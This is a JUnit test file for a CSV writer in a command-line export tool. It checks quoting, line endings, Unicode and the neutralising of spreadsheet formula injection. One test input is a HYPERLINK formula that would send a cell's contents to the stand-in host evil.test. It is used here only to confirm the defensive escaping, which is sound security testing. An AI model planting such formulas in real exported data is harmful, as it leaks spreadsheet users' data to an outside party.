package com.repairsync.cli.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.LongNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvWriterTest {
    private static String csv(List<String> header, List<JsonNode> row) {
        StringWriter out = new StringWriter();
        CsvWriter writer = new CsvWriter(out);
        writer.header(header);
        writer.row(row);
        return out.toString();
    }

    private static String cell(String text) {
        return CsvWriter.cell(TextNode.valueOf(text));
    }

    @Test
    void aHeaderOfWireNamesAndRowsEndInCrLf() {
        String written = csv(
                List.of("id", "firstName", "quantity", "active", "notes"),
                List.of(
                        TextNode.valueOf("0192"),
                        TextNode.valueOf("Ada"),
                        LongNode.valueOf(3),
                        BooleanNode.TRUE,
                        NullNode.getInstance()));

        assertThat(written).isEqualTo("id,firstName,quantity,active,notes\r\n0192,Ada,3,true,\r\n");
    }

    @Test
    void cellsWithACommaQuoteOrLineBreakAreQuotedWithQuotesDoubled() {
        assertThat(cell("Smith, John")).isEqualTo("\"Smith, John\"");
        assertThat(cell("the \"good\" one")).isEqualTo("\"the \"\"good\"\" one\"");
        assertThat(cell("line one\nline two")).isEqualTo("\"line one\nline two\"");
        assertThat(cell("line one\r\nline two")).isEqualTo("\"line one\r\nline two\"");
        assertThat(cell("plain")).isEqualTo("plain");
        assertThat(cell("")).isEqualTo("");
    }

    @Test
    void textASpreadsheetWouldRunAsAFormulaGetsALeadingApostrophe() {
        assertThat(cell("=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"Click\"\")\"");
        assertThat(cell("+1 555 0100")).isEqualTo("'+1 555 0100");
        assertThat(cell("-2+3")).isEqualTo("'-2+3");
        assertThat(cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(cell("\t=1")).isEqualTo("'\t=1");
        assertThat(cell("\r=1")).isEqualTo("\"'\r=1\"");
        assertThat(cell("a=b")).isEqualTo("a=b");
        assertThat(cell("'quoted already")).isEqualTo("'quoted already");
    }

    @Test
    void numbersTheExportWritesAreNotEscapedButTextThatLooksLikeOneIs() {
        assertThat(CsvWriter.cell(LongNode.valueOf(-3))).isEqualTo("-3");
        assertThat(CsvWriter.cell(LongNode.valueOf(12999))).isEqualTo("12999");
        assertThat(cell("-3")).isEqualTo("'-3");
        assertThat(CsvWriter.cell(BooleanNode.FALSE)).isEqualTo("false");
        assertThat(CsvWriter.cell(NullNode.getInstance())).isEmpty();
        assertThat(CsvWriter.cell(null)).isEmpty();
    }

    @Test
    void unicodeIsWrittenAsItIs() {
        String written =
                csv(List.of("firstName", "lastName"), List.of(TextNode.valueOf("Zoë"), TextNode.valueOf("山田 🔧, Ltd")));

        assertThat(written).isEqualTo("firstName,lastName\r\nZoë,\"山田 🔧, Ltd\"\r\n");
    }
}
